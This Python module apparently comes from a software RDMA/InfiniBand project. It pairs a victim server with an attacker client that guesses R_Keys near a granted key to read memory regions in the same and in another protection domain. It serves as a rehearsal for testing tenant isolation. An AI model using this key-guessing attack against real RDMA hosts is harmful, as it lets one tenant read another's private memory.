"""Tries to guess R_Keys (IBA 10.6.3). Contains the programs of the victim and of the attacker in a rehearsal; each runs
on its host.

    python -m softib.tenants.attacks.key_guess serve PORT
    python -m softib.tenants.attacks.key_guess guess ADDRESS PORT

The victim lets its clients read one region. It has two other regions that its clients must not read: one in the same
protection domain (a buffer of another client), and one in another domain. The attacker is a client. It knows the
addresses of these two regions, and tries R_Keys near the one that the victim gave it. A wrong R_Key ends the connection
(9.9.3), and the attacker connects again. The last line of output is the result as JSON.
"""

from __future__ import annotations

import ctypes
import json
import os
import struct
import sys
import time
from ctypes import c_int, c_void_p

import numpy as np

from softib.errors import PeerError
from softib.ulp.nvmeof.connections import ConnectionRequest, Event, EventChannel, Listener, connect
from softib.ulp.nvmeof.rdma import Memory, QueuePair
from softib.ulp.nvmeof.rdma_core import CALLS, OPS_AT
from softib.ulp.nvmeof.work_requests import rings_of

__all__ = ["TRIES", "guesses"]

SIZE, ANSWER_S = 4096, 10.0
SECRET, OTHER = b"same domain", b"other domain"
TRIES = 32
"""Number of R_Keys that are tried for each region."""
REGIONS = struct.Struct("<IQQQ")
"""Private data of the victim's answer: the R_Key of the readable region, and the addresses of the three regions."""
READ, SIGNALED, GOOD = 4, 2, 0


def guesses(given: int) -> list[int]:
    """Return R_Keys near ``given``, the nearest first. An R_Key is near if its value is near, or its index: the upper
    24 bits, which adapters count up.
    """
    steps = [sign * step for step in range(1, TRIES) for sign in (1, -1)]
    values = [value for step in steps for value in (given + step, given + (step << 8))]
    return [value for value in dict.fromkeys(values) if 0 < value < 1 << 32][:TRIES]


def serve(port: int) -> None:
    """Accept clients until the process ends."""
    channel = EventChannel()
    listening = Listener(channel, "0.0.0.0", port)
    print("listening", os.environ.get("SOFTIB_ADDRESS", ""), flush=True)
    kept: list[tuple[QueuePair, Memory]] = []
    while listening:
        event = channel.get(None)
        if event is None or event.kind != Event.CONNECT_REQUEST:
            continue
        request = ConnectionRequest(event.address, event.parameters, event.private_data)
        pair = QueuePair(request.id, 4, 4)
        given, secret = pair.memory(SIZE, remote=True), pair.memory(SIZE, remote=True)
        other = Memory(pair.another_domain(), SIZE, remote=True)
        for memory, text in ((secret, SECRET), (other, OTHER)):
            memory.data[: len(text)] = np.frombuffer(text, np.uint8)
        pair.accept(REGIONS.pack(given.rkey, given.address, secret.address, other.address), request)
        kept.append((pair, other))


def _read(address: str, port: int, region: int, number: int | None = None) -> bytes:
    """Read a region as a client, with the R_Key of guess ``number`` (None: with the R_Key that the victim gave). Return
    the data; empty if the victim's adapter refuses the read. Raises :class:`PeerError` if the client cannot connect.
    """
    channel = EventChannel()
    pair, finish = connect(channel, address, port, 4, 4, b"")
    try:
        given, *addresses = REGIONS.unpack(finish()[: REGIONS.size])
        key = given if number is None else guesses(given)[number]
        memory = pair.memory(SIZE)
        if _rdma_read(pair, memory, addresses[region], key) != GOOD:
            return b""
        return bytes(memory.data[:16]).rstrip(b"\0")
    finally:
        pair.disconnect()
        pair.close()
        channel.close()


def _rdma_read(pair: QueuePair, memory: Memory, remote: int, key: int) -> int:
    """Return the completion status of one RDMA READ; -1: no completion within ten seconds."""
    rings, context = rings_of(pair, 4), pair.id.contents.verbs
    rings.sge64[0, 0], rings.sge32[0, 2], rings.sge32[0, 3] = memory.address, SIZE, memory.lkey
    rings.send32[0, 6], rings.send32[0, 7], rings.send32[0, 8] = 1, READ, SIGNALED
    rings.send64[0, 5], rings.send32[0, 12] = remote, key
    address = lambda name: c_void_p.from_address(context + OPS_AT + CALLS[name]).value or 0
    call = lambda name, *kinds: ctypes.CFUNCTYPE(c_int, *kinds)(address(name))
    post = call("post_send", c_void_p, c_void_p, c_void_p)
    poll = call("poll_cq", c_void_p, c_int, c_void_p)
    cq, qp = pair.pointers
    if post(qp, rings.send64.ctypes.data, rings.bad.ctypes.data):
        raise PeerError("the read cannot be posted")
    until = time.monotonic() + ANSWER_S
    while not poll(cq, 1, rings.wc64.ctypes.data):
        if time.monotonic() > until:
            return -1
        time.sleep(0.0005)
    return int(rings.wc32[0, 2])


def guess(address: str, port: int) -> dict[str, object]:
    """Try to read both regions. In the result, ``same`` and ``other`` are the number of R_Keys that were tried until
    the region was read (0: it was not read); ``why`` is the reason if the client could not connect.
    """
    try:
        _read(address, port, 0)
    except PeerError as error:
        return {"why": str(error), "same": 0, "other": 0}
    out: dict[str, object] = {"why": ""}
    for region, name, text in ((1, "same", SECRET), (2, "other", OTHER)):
        tries = (number + 1 for number in range(TRIES) if _read(address, port, region, number) == text)
        out[name] = next(tries, 0)
    return out


if __name__ == "__main__":
    if sys.argv[1] == "serve":
        serve(int(sys.argv[2]))
    else:
        print(json.dumps(guess(sys.argv[2], int(sys.argv[3]))))
